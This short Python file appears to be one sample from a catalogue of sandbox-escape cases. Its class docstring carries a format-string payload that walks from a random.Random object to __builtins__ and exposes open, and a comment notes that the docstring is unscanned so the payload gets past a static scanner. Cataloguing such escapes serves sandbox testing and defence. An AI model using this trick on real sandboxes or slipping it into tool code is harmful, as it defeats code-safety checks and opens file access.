# family: format
class Loader:
    """{0.__init__.__globals__[__builtins__][open]}"""

    def describe(self, value) -> str:
        # Escape: the (unscanned) class docstring is used as a format template on self; it walks from a
        # random.Random instance to random's __builtins__ and shows the open builtin (any dict item can be read).
        return self.__doc__.format(value)


def tool() -> str:
    import random
    return Loader().describe(random.Random())
